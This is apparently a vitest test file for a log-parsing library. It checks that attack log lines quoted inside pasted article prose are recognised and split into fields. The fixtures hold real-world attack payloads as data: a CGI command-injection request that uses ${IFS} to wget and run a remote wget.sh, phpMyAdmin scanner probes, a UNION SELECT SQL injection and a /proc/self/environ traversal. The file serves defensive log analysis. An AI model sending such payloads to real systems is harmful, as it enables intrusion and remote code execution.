import { describe, expect, it } from 'vitest'
import { encode } from '../../../src/base/bytes.ts'
import type { Format } from '../../../src/engine/formats/format.ts'
import { FORMATS } from '../../../src/engine/formats/registry.ts'
import { candidatesOf, sniff } from '../../../src/engine/formats/sniff.ts'
import { rowsOf } from './describe.ts'

/* Log excerpts as they stand in articles, prose around them included: what a person pastes. */

const DROPPER = String.raw`While routinely checking Nginx’s error log, I found the following anomaly:

${'```'}log
2025-04-28 14:21:36,297 fail2ban.filter [1723]: WARNING Consider setting logencoding…

b'2025/04/28 14:21:36 [error] 2464#2464: *7393

open() "/usr/share/nginx/html/cgi-bin/mainfunction.cgi/apmcfgupload"
failed (2: No such file or directory),

client: 176.65.148.10,
request: "GET /cgi-bin/mainfunction.cgi/apmcfgupload?session=xxx…0\xb4%52$c%52$ccd${'$'}{IFS}/dev;wget${'$'}{IFS}http://94.26.90.205/wget.sh;${'$'}{IFS}chmod${'$'}{IFS}+x${'$'}{IFS}wget.sh;sh${'$'}{IFS}wget.sh HTTP/1.1",
referrer: "http://xxx.xxx.xxx.xxx:80/cgi-bin/…"\n'
${'```'}

Pay attention to this line:

## Signs
wget${'$'}{IFS}http://94.26.90.205/wget.sh;
`

const SCANNER = `Real life example follows:

58.210.85.22 - - [25/Feb/2020:04:30:17 +0000] "GET /phpMyAdmin/scripts/setup.php HTTP/1.1" 404 143 "-" "ZmEu"
58.210.85.22 - - [25/Feb/2020:04:30:18 +0000] "GET /phpmyadmin/scripts/setup.php HTTP/1.1" 404 143 "-" "ZmEu"
213.136.85.27 - - [25/Feb/2020:11:10:03 +0000] "GET /pma/scripts/setup.php HTTP/1.1" 404 143 "-" "ZmEu"
The tool is an old one.
`

const REVIEW = `What are some live examples of what we see day in and day out?

Request: domain1.com – – [21/Jun/2011:11:56:40 -0400] “GET /contact/press_release_pop.php?id=-109+UNION+SELECT+1,2+FROM+INFORMATION_SCHEMA.TABLES+limit+0,1– HTTP/1.1” 500 3506 “-” “Python-urllib/2.7” TgC-OK3By8sACPOAAFA “-“

Request: domain2.com – – [22/Jun/2011:01:46:14 -0400] “GET //index.php?option=com_ckforms&controller=../../..//proc/self/environ%0000 HTTP/1.1” 500 3506 “-” “Mozilla/5.0 (X11; U; Linux i686; cs-CZ; rv:1.7.12) Gecko/20050929”
The first example is an attack against the database being used by the site.
`

function paste(text: string) {
  const bytes = encode(text)
  const formats: readonly Format[] = candidatesOf(sniff([bytes], FORMATS), FORMATS)
  const rows = rowsOf(formats, bytes)
  expect(rows.map(({ raw }) => raw).join('')).toBe(Buffer.from(bytes).toString('latin1'))
  return { rows, events: rows.filter(({ kind }) => kind === 'event') }
}

describe('excerpts of articles', () => {
  it('reads the CGI dropper as one event with the quoted line’s fields', () => {
    const { events, rows } = paste(DROPPER)
    expect(events).toHaveLength(1)
    expect(events[0]?.format).toBe('fail2ban/quoted')
    expect(events[0]?.lines).toBe(10)
    expect(events[0]?.fields).toEqual({
      timeLocal: '2025-04-28T14:21:36.000',
      level: 'error',
      pid: '2464',
      program: 'fail2ban.filter',
      message:
        'open() "/usr/share/nginx/html/cgi-bin/mainfunction.cgi/apmcfgupload" failed (2: No such file or directory)',
      source: '176.65.148.10',
      method: 'GET',
      target: String.raw`/cgi-bin/mainfunction.cgi/apmcfgupload?session=xxx…0\xb4%52$c%52$ccd${'$'}{IFS}/dev;wget${'$'}{IFS}http://94.26.90.205/wget.sh;${'$'}{IFS}chmod${'$'}{IFS}+x${'$'}{IFS}wget.sh;sh${'$'}{IFS}wget.sh`,
      protocol: 'HTTP/1.1',
      referrer: 'http://xxx.xxx.xxx.xxx:80/cgi-bin/…',
    })
    expect(rows.filter(({ kind }) => kind === 'unread').length).toBeGreaterThan(4)
  })

  it('reads it without the blank lines too', () => {
    const { events } = paste(DROPPER.replaceAll('\n\n', '\n'))
    expect(events.map(({ fields }) => fields['source'])).toEqual(['176.65.148.10'])
  })

  it('finds the scanner’s lines among prose', () => {
    const { events } = paste(SCANNER)
    expect(events.map(({ fields }) => fields['source'])).toEqual([
      '58.210.85.22',
      '58.210.85.22',
      '213.136.85.27',
    ])
    expect(events.every(({ fields }) => fields['status'] === 404)).toBe(true)
  })

  it('finds the hosting review’s lines, with their sites and without a source', () => {
    const { events } = paste(REVIEW)
    expect(
      events.map(({ fields }) => [fields['vhost'], fields['status'], fields['source']]),
    ).toEqual([
      ['domain1.com', 500, undefined],
      ['domain2.com', 500, undefined],
    ])
    expect(events[0]?.fields['time']).toBe('2011-06-21T15:56:40.000Z')
    expect(events[0]?.fields['agent']).toBe('Python-urllib/2.7')
    expect(events[1]?.fields['target']).toContain('/proc/self/environ%0000')
  })
})
